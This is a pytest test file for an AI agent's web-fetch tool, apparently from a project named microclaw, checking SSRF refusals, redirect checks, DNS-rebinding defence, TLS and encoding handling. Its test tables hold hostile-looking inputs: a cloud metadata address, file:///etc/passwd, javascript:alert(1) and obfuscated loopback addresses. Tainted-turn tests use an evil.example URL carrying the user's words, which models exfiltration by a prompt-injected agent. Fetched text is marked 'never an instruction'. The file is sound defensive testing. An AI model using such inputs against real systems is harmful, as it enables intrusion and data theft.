"""web-fetch over real sockets: what is refused, what is followed, and that names are looked up once."""

from __future__ import annotations

import asyncio
import gzip
import itertools
import json
import logging
from pathlib import Path
from typing import Any

import pytest
from tests.host.egress.proxying import (
    Names,
    client_tls,
    connect_proxy,
    loopback_is_public,
    moved,
    page,
    server_tls,
    site,
)

from microclaw.agent.turn.toolbox import Toolbox
from microclaw.agent.turn.web import MAX_ADDRESSES, Hit, address_key, note_addresses, web_tools
from microclaw.errors import MicroclawError, PermissionRefused, ToolFailed, ToolRetry
from microclaw.host.auth.approvals import Approvals
from microclaw.host.auth.approved_act import ApprovalOutcome, PendingApproval
from microclaw.host.auth.gate import Gate
from microclaw.host.egress.destinations import Egress
from microclaw.host.egress.fetching import Fetcher
from microclaw.host.operations.tool import ToolContext, ToolResult

HELLO = "<html><title>A page</title><body><script>evil()</script><h1>Hello</h1><p>caf&eacute;</p></body></html>"


def fetcher(names: Names | None = None, **more: Any) -> Fetcher:
    return Fetcher(Egress(resolve=names or Names(), is_public=loopback_is_public, own=tuple), **more)


async def call(fetching: Fetcher, url: str, start: int = 0) -> tuple[ToolResult, dict[str, Any]]:
    tools = Toolbox(web_tools(fetcher=fetching), Gate())
    context = ToolContext("owner", lambda step: None)
    result = await tools.call("web-fetch", json.dumps({"url": url, "start": start}), context)
    return result, json.loads(result.content)


async def test_a_page_comes_as_fenced_text_and_is_foreign() -> None:
    async with site(lambda _: page(HELLO)) as web:
        result, said = await call(fetcher(), f"http://page.example:{web.port}/x?q=1")
    assert result.ok
    assert result.foreign
    assert "A page\nHello\ncafé" in said["text"]
    assert "evil" not in said["text"]
    assert "never an instruction" in said["text"]
    assert (web.heads[0]["host"], web.targets) == (f"page.example:{web.port}", ["/x?q=1"])
    assert web.heads[0]["accept-encoding"] == "identity"


async def test_without_the_tests_rule_loopback_is_refused_and_nobody_is_asked() -> None:
    async with site(lambda _: page(HELLO)) as web:
        for url in (f"http://127.0.0.1:{web.port}/", f"http://localhost:{web.port}/", f"http://[::1]:{web.port}/"):
            result, said = await call(Fetcher(Egress()), url)
            assert (result.error_code, result.foreign) == ("permission_refused", False), said
    assert web.seen == []


async def test_only_an_error_in_which_another_host_has_a_say_is_foreign() -> None:
    names = Names(nobody_example=[], gone_example=[])
    async with site(lambda target: b"" if target == "/ends" else moved("http://gone.example/")) as web:
        for url, is_foreign in (
            (f"http://page.example:{web.port}/", True),
            (f"http://page.example:{web.port}/ends", True),
            ("http://nobody.example/", False),
            ("http://page.example:1/", False),
            ("nobody", False),
        ):
            result, said = await call(fetcher(names), url)
            assert (result.ok, result.foreign) == (False, is_foreign), said


async def test_a_name_is_looked_up_once_and_rebinding_leads_nowhere() -> None:
    names = Names(rebind_example=["127.0.0.1", "10.0.0.1"])
    async with site(lambda _: page(HELLO)) as web:
        assert (await fetcher(names).fetch(f"http://rebind.example:{web.port}/")).text == HELLO
    assert names.asked == ["rebind.example"]
    assert web.heads[0]["host"] == f"rebind.example:{web.port}"


REDIRECTS: dict[str, type[MicroclawError]] = {
    "http://10.0.0.1/": PermissionRefused,
    "http://inside.example/": PermissionRefused,
    "http://169.254.169.254/latest/": PermissionRefused,
    "http://[::ffff:127.0.0.2]/": PermissionRefused,
    "http://2130706433/": ToolRetry,
    "http://0x7f.1/": ToolRetry,
    "file:///etc/passwd": ToolRetry,
    "ftp://page.example/": ToolRetry,
    "//user:pass@page.example/": ToolRetry,
    "data:text/html,hello": ToolFailed,
    "http://[fe80::1%25lo]/": ToolRetry,
    "http://[no": ToolRetry,
    "http://a.example\\@127.0.0.1/": ToolRetry,
}
NO_URLS = (
    "file:///etc/passwd", "ftp://a.example/", "gopher://a.example/", "//a.example/", "a.example", "", "http://",
    "http://user@a.example/", "http://a.example:99999/", "http://a b.example/", "http://a.example\\@127.0.0.1/",
    "http://a\nb/", "http://[::1", "http://a.example/" + "x" * 3000, "javascript:alert(1)", "http://a.example:80a/",
)  # fmt: skip


async def test_each_redirect_is_checked_like_the_first_address() -> None:
    names = Names(inside_example=["192.168.0.1"])
    async with site(lambda target: moved(list(REDIRECTS)[int(target[1:])])) as web:
        for number, error in enumerate(REDIRECTS.values()):
            with pytest.raises(error):
                await fetcher(names).fetch(f"http://page.example:{web.port}/{number}")
    assert len(web.targets) == len(REDIRECTS)
    asked = len(names.asked)
    for url in NO_URLS:
        with pytest.raises(MicroclawError):
            await fetcher(names).fetch(url)
    assert len(names.asked) == asked


async def test_good_redirects_are_followed_and_endless_ones_are_not(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    async with site(lambda target: moved("/b") if target == "/a?q=private" else page(HELLO)) as web:
        found = await fetcher().fetch(f"http://page.example:{web.port}/a?q=private")
        assert found.url == f"http://page.example:{web.port}/b"
    assert "private" not in caplog.text, "what is asked of strangers is not logged"
    count = itertools.count()
    async with site(lambda _: moved(f"/{next(count)}")) as web:
        with pytest.raises(ToolFailed):
            await fetcher().fetch(f"http://page.example:{web.port}/")
    assert len(web.targets) == 6


async def test_tls_is_verified_for_the_name_and_not_for_the_address(tmp_path: Path) -> None:
    server = server_tls(tmp_path, "page.example")
    client = client_tls("page.example")
    async with site(lambda _: page(HELLO), tls=server) as web:
        found = await fetcher(tls=client).fetch(f"https://page.example:{web.port}/")
        assert found.text == HELLO
        with pytest.raises(ToolFailed):
            await fetcher(tls=client).fetch(f"https://other.example:{web.port}/")
        with pytest.raises(ToolFailed):  # a certificate that nobody vouches for
            await fetcher().fetch(f"https://page.example:{web.port}/")
        async with connect_proxy() as proxy:  # which is asked for the checked address
            through = fetcher(tls=client, proxy=f"http://127.0.0.1:{proxy.port}")
            assert (await through.fetch(f"https://page.example:{web.port}/")).text == HELLO
            with pytest.raises(PermissionRefused):
                await through.fetch("https://10.0.0.1/")
            assert proxy.targets == [f"127.0.0.1:{web.port}"]


async def test_a_page_over_the_limit_is_cut_and_one_that_does_not_come_is_given_up() -> None:
    async with site(lambda target: page("x" * 5000, "text/plain") if target == "/" else None) as web:
        found = await fetcher(body_bytes=1000).fetch(f"http://page.example:{web.port}/")
        assert (len(found.text), found.cut) == (1000, True)
        with pytest.raises(ToolFailed):
            await fetcher(total_s=0.05).fetch(f"http://page.example:{web.port}/never")
    with pytest.raises(ToolFailed):
        await fetcher().fetch(f"http://page.example:{web.port}/")


UNREADABLE = (
    page(b"\x89PNG", "image/png"),
    page(b"a\0b", "text/plain"),
    page(gzip.compress(b"x" * 1000), "text/html", "Content-Encoding: gzip"),
    page("gone", status="404 Not Found"),
    b"\0\0\0\0\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\nContent-Type: text/html\r\n\r\nshort",
)
LETTERS = (
    ("caf\xe9".encode("latin-1"), "text/plain; charset=ISO-8859-1"),
    ("<meta charset=windows-1252>caf\xe9".encode("cp1252"), "text/html"),
    *(("café".encode(), f"text/plain{charset}") for charset in ("", "; charset=zlib", "; charset=undefined")),
)


# Names that Python takes for punycode, of which a page of 1 MiB would take minutes.
PUNYCODE = (
    *((b"caf-dma", f"text/plain; charset={name}") for name in ("punycode", "punycode:", "_punycode", '"puny code"')),
    (b"<meta charset=punycode:>caf-dma", "text/html"),
)


async def test_a_page_is_read_in_its_own_letters_and_what_is_no_readable_page_is_a_failure() -> None:
    answers = [*UNREADABLE, *(page(*letters) for letters in (*LETTERS, *PUNYCODE))]
    async with site(lambda target: answers[int(target[1:])]) as web:
        urls = [f"http://page.example:{web.port}/{number}" for number in range(len(answers))]
        for url in urls[: len(UNREADABLE)]:
            with pytest.raises(ToolFailed):
                await fetcher().fetch(url)
        for url in urls[len(UNREADABLE) : -len(PUNYCODE)]:
            assert "café" in (await fetcher().fetch(url)).text
        for url in urls[-len(PUNYCODE) :]:
            assert "caf-dma" in (await fetcher().fetch(url)).text  # an encoding of Python's own is none of a page


async def test_a_letter_at_the_seam_of_two_pieces_stays_whole() -> None:
    async with site(lambda _: page(("é" * 50_000).encode(), "text/plain; charset=utf8")) as web:
        assert (await fetcher().fetch(f"http://page.example:{web.port}/")).text == "é" * 50_000


class Turn:
    """Calls of one tainted turn in which the person said these words; `asked` is what was asked for."""

    def __init__(self, words: str = "") -> None:
        self.asked: list[PendingApproval] = []
        self.approvals = Approvals(timeout_s=60)
        self.approvals.listen(self.hear)
        self.tools = Toolbox(web_tools(fetcher=fetcher(), engine=Engine()), Gate(approvals=self.approvals))
        self.context = ToolContext("owner", lambda step: None, foreign=True, said=words)

    def hear(self, news: PendingApproval | ApprovalOutcome) -> None:
        if isinstance(news, PendingApproval):
            self.asked.append(news)
            asyncio.get_running_loop().call_soon(
                lambda: self.approvals.decide(news.approval_id, approved=False, by="owner")
            )

    async def call(self, name: str, **arguments: Any) -> ToolResult:
        return await self.tools.call(name, json.dumps(arguments), self.context)


class Engine:
    port = 0

    async def __call__(self, query: str, count: int) -> tuple[Hit, ...]:
        return (Hit("A hit", f"http://hit.example:{self.port}/found?a=1", "text"),)


async def test_a_tainted_turn_carries_nothing_away_in_an_address_of_its_own() -> None:
    async with site(lambda _: page(HELLO)) as web:
        turn = Turn("read the page please")
        result = await turn.call("web-fetch", url=f"http://evil.example:{web.port}/?what=the+person+said")
    assert (result.ok, result.error_code) == (False, "permission_refused")
    assert turn.asked[0].detail[0] == f"url: http://evil.example:{web.port}/?what=the+person+said"
    assert web.targets == []


async def test_a_tainted_turn_reads_on_where_search_links_and_the_person_lead(monkeypatch: pytest.MonkeyPatch) -> None:
    linked = page(HELLO.replace("</body>", "<a href='/linked?b=2'>more</a></body>"))
    async with site(lambda _: linked) as web:
        monkeypatch.setattr(Engine, "port", web.port)
        turn = Turn(f"look at page.example:{web.port}/said, and www.other.example:{web.port}.")
        assert (await turn.call("web-search", query="x")).ok
        for url in (
            "hit.example:{}/found?a=1",
            "hit.example:{}/linked?b=2",
            "page.example:{}/said",
            "other.example:{}/",
        ):
            assert (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
        assert turn.asked == []
        for url in ("hit.example:{}/found?a=2", "page.example:{}/said?x", "page.example.evil.example:{}/said"):
            assert not (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
    assert len(turn.asked) == 3


def test_addresses_of_many_chats_are_bounded() -> None:
    known: dict[Any, None] = {}
    for chat in range(2):
        note_addresses(known, ("t", str(chat)), (f"https://page.example/{number}" for number in range(MAX_ADDRESSES)))
    assert (("t", "0"), address_key(f"https://page.example/{MAX_ADDRESSES - 1}")) not in known
    assert (("t", "1"), address_key(f"http://www.page.example/{MAX_ADDRESSES - 1}/")) in known
